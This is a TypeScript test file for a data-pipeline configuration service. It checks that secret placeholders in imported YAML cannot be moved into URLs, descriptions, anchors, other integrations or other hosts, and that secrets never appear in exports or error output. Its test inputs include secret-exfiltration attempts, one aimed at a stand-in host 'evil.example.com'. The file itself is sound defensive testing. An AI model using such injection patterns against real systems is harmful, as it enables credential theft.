import assert from "node:assert/strict";
import { before, describe, test } from "node:test";
import { exportFile } from "@datafly-signal/core";
import { type ChangesRig, openChangesRig } from "../configuration/changes-rig-fixture.ts";
import { isFault } from "../http/route.ts";

const TOKEN = "planted-hook-token";
const OLD_TOKEN = "planted-hook-token-before";
const PARAMETER = "planted-parameter";
const SALT = "planted-salt-value";
const HOOK = "SIGNAL_SECRET_HOOK_AUTH_TOKEN";
const OLD = `${HOOK}_R1`;
const PIPELINE = "SIGNAL_SECRET_PIPELINE_SHOP_TOKEN";
const SALTED = "SIGNAL_SECRET_DATA_LAYER_PII_RULES_SALT";

/** A token that changed once, with a pipeline that stays behind; a secret parameter; a salt. */
async function configured(): Promise<ChangesRig> {
  const rig = await openChangesRig();
  const integration = (token: string) => ({
    id: "tmpl_hook",
    name: "Hook",
    vendor: "webhook",
    config: { url: "https://a.example.com", authentication: "bearer" },
    secrets: { auth_token: token },
  });
  const made = await rig.change({
    document: {
      integrations: [
        integration(OLD_TOKEN),
        { ...integration("{{pipeline_param.token}}"), id: "tmpl_other", name: "Other" },
      ],
      pipelines: [
        {
          id: "pip_shop",
          name: "Shop",
          slug: "shop",
          pipeline_keys: ["dk_live_12345678"],
          parameters: { token: PARAMETER },
          integrations: [{ integration: "tmpl_hook", revision: 1 }, { integration: "tmpl_other" }],
        },
      ],
      data_layer: { pii_rules: { hash_fields: ["traits.email"], salt: SALT } },
    },
  });
  assert.ok(!isFault(made), JSON.stringify(made));
  const next = await rig.change({ document: { integrations: [integration(TOKEN)] } });
  assert.ok(!isFault(next), JSON.stringify(next));
  return rig;
}

async function exported(rig: ChangesRig): Promise<string> {
  return exportFile(await rig.state()).text;
}

function assertClean(what: unknown, words: string): void {
  const text = JSON.stringify(what);
  for (const secret of [TOKEN, PARAMETER, SALT, "planted"]) assert.ok(!text.includes(secret), `${words}: ${text}`);
}

const pipeline = (parts: string): string => `version: 1
pipelines:
  - { id: pip_shop, name: Shop, slug: shop, pipeline_keys: [dk_live_12345678], ${parts} }
`;
const integration = (parts: string, id = "id: tmpl_hook, name: Hook"): string => `version: 1
integrations:
  - { ${id}, vendor: webhook, config: { url: "https://a.example.com", authentication: bearer }, ${parts} }
`;

const ATTEMPTS: [where: string, yaml: string][] = [
  [
    "a setting",
    integration("consent_categories: []").replace("https://a.example.com", `https://evil.example.com/\${${HOOK}}`),
  ],
  [
    "a setting that is nothing else",
    integration("consent_categories: []").replace("https://a.example.com", `\${${HOOK}}`),
  ],
  ["a mapping", integration(`mapping: { version: 2, global: { mappings: [{ value: "\${${HOOK}}", target: a }] } }`)],
  ["a mapping's text", integration(`mapping: 'version: 2 # \${${HOOK}}'`)],
  ["all of a mapping's text", integration(`mapping: "\${${HOOK}}"`)],
  [
    "the secret of another integration",
    integration(`secrets: { auth_token: "\${${HOOK}}" }`, "id: tmpl_other, name: Other"),
  ],
  ["the secret of a new integration", integration(`secrets: { auth_token: "\${${HOOK}}" }`, "name: New")],
  [
    "the secret of one with its name, and another id",
    integration(`secrets: { auth_token: "\${${HOOK}}" }`, "id: tmpl_x, name: Hook"),
  ],
  [
    "the secret of one that is renamed without its id",
    integration(`secrets: { auth_token: "\${${HOOK}}" }`, "name: Renamed"),
  ],
  [
    "the secret of one whose name a variable makes",
    integration(`secrets: { auth_token: "\${${HOOK}}" }`, 'id: "${ID}", name: Hook'),
  ],
  ["a description", integration(`description: "\${${HOOK}}"`)],
  ["a name", integration("consent_categories: []", `id: tmpl_hook, name: "\${${HOOK}}"`)],
  ["a text around it", integration(`secrets: { auth_token: "Bearer \${${HOOK}}" }`)],
  ["a text beside another variable", integration(`secrets: { auth_token: "\${${HOOK}}\${MINE}" }`)],
  [
    "the flat settings",
    integration("consent_categories: []").replace(
      "authentication: bearer",
      `authentication: bearer, auth_token: "\${${HOOK}}"`,
    ),
  ],
  ["an alias of its own place", `${integration(`secrets: { auth_token: &s "\${${HOOK}}" }, description: *s`)}`],
  [
    "an anchor in front of its own place",
    `${integration(`description: &s "\${${HOOK}}", secrets: { auth_token: *s }`)}`,
  ],
  [
    "an earlier revision",
    integration(
      `secrets: { auth_token: "\${${HOOK}}" }, earlier_revisions: [{ revision: 1, config: { url: "https://a.example.com" }, secrets: { auth_token: "\${${HOOK}}" } }]`,
    ),
  ],
  ["an earlier revision's setting", integration(`earlier_revisions: [{ revision: 1, config: { url: "\${${OLD}}" } }]`)],
  [
    "another earlier revision",
    integration(
      `earlier_revisions: [{ revision: 9, config: { url: "https://a.example.com" }, secrets: { auth_token: "\${${OLD}}" } }]`,
    ),
  ],
  ["the latest in place of the earlier one", integration(`secrets: { auth_token: "\${${OLD}}" }`)],
  ["a delivery specification", integration(`delivery_spec: { a: "\${${HOOK}}" }`)],
  ["a parameter that is no secret", pipeline(`parameters: { region: "\${${PIPELINE}}" }`)],
  [
    "a parameter of another pipeline",
    pipeline(`parameters: { token: "\${${PIPELINE}}" }`).replace("id: pip_shop, name: Shop, slug: shop", "name: B"),
  ],
  ["a label", pipeline(`labels: ["\${${PIPELINE}}"]`)],
  ["a pipeline's key", pipeline("enabled: true").replace("[dk_live_12345678]", `["\${${PIPELINE}}"]`)],
  ["the data layer's code", `version: 1\ndata_layer: { custom_js: { code: "'\${${SALTED}}'" } }\n`],
  ["a list of the data layer", `version: 1\ndata_layer: { pii_rules: { hash_fields: ["\${${SALTED}}"] } }\n`],
  [
    "a section that there is not",
    `version: 1\norganisation: { id: tmpl_hook, secrets: { auth_token: "\${${HOOK}}" } }\n`,
  ],
];

describe("a secret that is kept goes nowhere but to its own place", () => {
  let rig: ChangesRig;
  before(async () => {
    rig = await configured();
  });
  for (const [where, yaml] of ATTEMPTS) {
    test(where, async () => {
      const number = (await rig.state()).number;
      for (const dryRun of [true, false]) {
        const result = await rig.text({ yaml, dryRun, variables: { MINE: "mine", ID: "tmpl_hook" } });
        assert.ok(isFault(result), JSON.stringify(result));
        assert.equal(result.fault, "VALIDATION_FAILED");
        assert.ok(
          (result.details ?? []).some(({ message }) => /kept|unknown key/.test(message)),
          JSON.stringify(result),
        );
        assertClean(result, where);
      }
      assert.equal((await rig.state()).number, number);
    });
  }
});

test("the server's own environment is not the author's", async () => {
  const rig = await configured();
  process.env["PLANTED_FOR_TEST"] = "planted-environment";
  try {
    const result = await rig.text({ yaml: integration('description: "${PLANTED_FOR_TEST}${PATH}"') });
    assert.ok(isFault(result));
    assert.match(JSON.stringify(result), /PLANTED_FOR_TEST is not set/);
    assertClean(result, "environment");
  } finally {
    delete process.env["PLANTED_FOR_TEST"];
  }
});

test("an export applied where it comes from keeps every secret, and is no change", async () => {
  const rig = await configured();
  const yaml = await exported(rig);
  for (const name of [HOOK, OLD, PIPELINE, SALTED]) assert.ok(yaml.includes(`\${${name}}`), yaml);
  assertClean(yaml, "export");
  const before = await rig.state();
  for (const variables of [{}, { [HOOK]: "" }, { [HOOK]: TOKEN }]) {
    const result = await rig.text({ yaml, prune: true, variables });
    assert.ok(!isFault(result), JSON.stringify(result));
    assert.deepEqual(result.applied.changes, []);
    assert.deepEqual(result.audits, []);
  }
  assert.deepEqual(await rig.state(), before);
});

test("an export with something changed keeps the secrets beside it", async () => {
  const rig = await configured();
  const yaml = (await exported(rig)).replace("https://a.example.com", "https://a.example.com/other");
  const result = await rig.text({ yaml });
  assert.ok(!isFault(result), JSON.stringify(result));
  assert.equal(result.applied.changes.length, 1, result.applied.changes.join("\n"));
  assertClean(result, "answer");
  const state = await rig.state();
  const hook = state.integrations.find(({ id }) => id === "tmpl_hook")?.revisions.at(-1);
  assert.equal(hook?.content?.parameters["url"], "https://a.example.com/other");
  const address = { organisation: "org_shop", object: "tmpl_hook", field: "auth_token" };
  assert.equal(rig.services.keyring.open(hook?.content?.secrets["auth_token"] ?? "", address), TOKEN);
});

test("a secret that is kept does not go to another host", async () => {
  const rig = await configured();
  const { number } = await rig.state();
  const [own, spec] = [
    `secrets: { auth_token: "\${${HOOK}}" }`,
    'delivery_spec: { endpoint: { url: "https:b.example.com" }, body: { encoding: json } }',
  ];
  const moves = [integration(own).replace("a.example", "b.example"), integration(`${own}, ${spec}`)];
  for (const yaml of [...moves, (await exported(rig)).replace("https://a.example.com", "https://b.example.com")]) {
    const result = await rig.text({ yaml });
    assert.ok(isFault(result), yaml);
    const said = (result.details ?? []).map(({ message }) => message).join("\n");
    assert.match(said, new RegExp(`${HOOK}.* another host`));
    assertClean(result, yaml);
  }
  assert.equal((await rig.state()).number, number);
  const given = await rig.text({ yaml: moves[0] ?? "", variables: { [HOOK]: "its-own" } });
  assert.ok(!isFault(given), JSON.stringify(given));
});

test("a text that only speaks of a variable is kept as it is", async () => {
  const rig = await configured();
  const described = await rig.text({
    yaml: integration(`description: "see $\${${HOOK}}", secrets: { auth_token: "\${${HOOK}}" }`),
  });
  assert.ok(!isFault(described), JSON.stringify(described));
  const again = await rig.text({ yaml: await exported(rig) });
  assert.ok(!isFault(again), JSON.stringify(again));
  assert.deepEqual(again.applied.changes, []);
});

test("in another installation the variables are to be set, and then make the same", async () => {
  const yaml = await exported(await configured());
  const empty = await openChangesRig();
  const refused = await empty.text({ yaml });
  assert.ok(isFault(refused));
  assert.equal(refused.details?.length, 5, JSON.stringify(refused));
  const other = "{{pipeline_param.token}}";
  const variables = {
    SIGNAL_SECRET_OTHER_AUTH_TOKEN: other,
    [HOOK]: TOKEN,
    [OLD]: OLD_TOKEN,
    [PIPELINE]: PARAMETER,
    [SALTED]: SALT,
  };
  const taken = await empty.text({ yaml, variables });
  assert.ok(!isFault(taken), JSON.stringify(taken));
  assertClean([taken.applied, taken.audits], "answer and audit");
  assert.equal(await exported(empty), yaml);
  const dry = await empty.text({ yaml: await exported(empty), dryRun: true });
  assert.ok(!isFault(dry) && dry.applied.changes.length === 0);
});

test("what stays behind at a revision that was not in use is read with it", async () => {
  const rig = await configured();
  const third = await rig.text({ yaml: (await exported(rig)).replace(/revision: 1\n/, "revision: latest\n") });
  assert.ok(!isFault(third), JSON.stringify(third));
  const yaml = (await exported(rig)).replace(/(integration: Hook\n\s+revision: )latest/, "$11");
  const back = await rig.text({ yaml });
  assert.ok(!isFault(back), JSON.stringify(back));
  assert.deepEqual(back.applied.changes, ['pipeline "Shop" → "Hook": revision 2 → 1']);
  const named = await rig.change({
    document: {
      pipelines: [
        {
          id: "pip_shop",
          name: "Shop",
          slug: "shop",
          pipeline_keys: ["dk_live_12345678"],
          parameters: { token: PARAMETER },
          integrations: [
            {
              id: (await rig.state()).lanes.find((lane) => lane.integrationId === "tmpl_hook")?.id ?? "",
              integration: "Hook",
              revision: 2,
            },
          ],
        },
      ],
    },
  });
  assert.ok(!isFault(named), JSON.stringify(named));
});
